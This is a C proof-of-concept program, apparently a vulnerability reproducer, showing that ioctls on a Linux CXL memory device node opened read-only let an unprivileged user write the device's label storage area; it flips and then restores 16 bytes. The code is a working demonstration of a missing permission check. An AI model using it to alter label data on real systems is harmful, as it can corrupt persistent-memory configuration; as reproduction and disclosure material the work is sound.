/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K6: the ioctls of a CXL memory device look at neither capabilities nor the way the node was
 * opened: who may open /dev/cxl/memN for reading writes the label area. The node's mode (0600) is
 * the whole of the policy. Where the kernel's own driver for persistent memory is bound, the label
 * area is its own and everybody gets EBUSY.
 * Seen on Linux 6.1.0-56 and 6.12.95; on 7.3.4 cxl_pmem is bound by itself.
 *
 *   k6-cxl-label NODE    /dev/cxl/mem0, as root
 *
 * 16 bytes at the start of the label area are written, and put back.
 * Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/cxl_mem.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY 65534
#define SIZE   16

static int get(int fd, uint8_t *ret)
{
	uint32_t in[2] = {0, SIZE};
	struct cxl_send_command c = {
		.id = CXL_MEM_COMMAND_ID_GET_LSA,
		.in = {.size = sizeof(in), .payload = (uintptr_t)in},
		.out = {.size = SIZE, .payload = (uintptr_t)ret},
	};

	return ioctl(fd, CXL_MEM_SEND_COMMAND, &c) < 0 || c.retval ? -1 : 0;
}

static int set(int fd, const uint8_t *bytes)
{
	uint8_t in[8 + SIZE] = {0}; /* offset, reserved, data (CXL 3.1, 8.2.9.9.2.4) */
	struct cxl_send_command c = {
		.id = CXL_MEM_COMMAND_ID_SET_LSA,
		.in = {.size = sizeof(in), .payload = (uintptr_t)in},
	};

	memcpy(in + 8, bytes, SIZE);
	return ioctl(fd, CXL_MEM_SEND_COMMAND, &c) < 0 || c.retval ? -1 : 0;
}

int main(int argc, char **argv)
{
	uint8_t before[SIZE] = {0}, mine[SIZE], after[SIZE] = {0};
	int fd;

	if (argc != 2 || (fd = open(argv[1], O_RDONLY | O_CLOEXEC)) < 0) {
		perror(argc != 2 ? "usage: k6-cxl-label NODE" : argv[1]);
		return 2;
	}
	if (geteuid() == 0 && (setgroups(0, NULL) < 0 || setgid(NOBODY) < 0 || setuid(NOBODY) < 0))
		return 2;
	if (get(fd, before) < 0) {
		perror("K6: could not be tried");
		return 2;
	}
	memset(mine, before[0] ^ 0xff, sizeof(mine));
	if (set(fd, mine) < 0) {
		(void)printf("K6 not on this kernel: %s%s\n", strerrorname_np(errno),
			     errno == EBUSY ? ", cxl_pmem is bound" : "");
		return errno == EBUSY || errno == EPERM || errno == EACCES ? 1 : 2;
	}
	if (get(fd, after) < 0 || memcmp(mine, after, SIZE) != 0 || set(fd, before) < 0) {
		perror("K6: could not be tried");
		return 2;
	}
	(void)printf("K6 reproduced: an ordinary user wrote the label area of %s, open for "
		     "reading\n",
		     argv[1]);
	return 0;
}
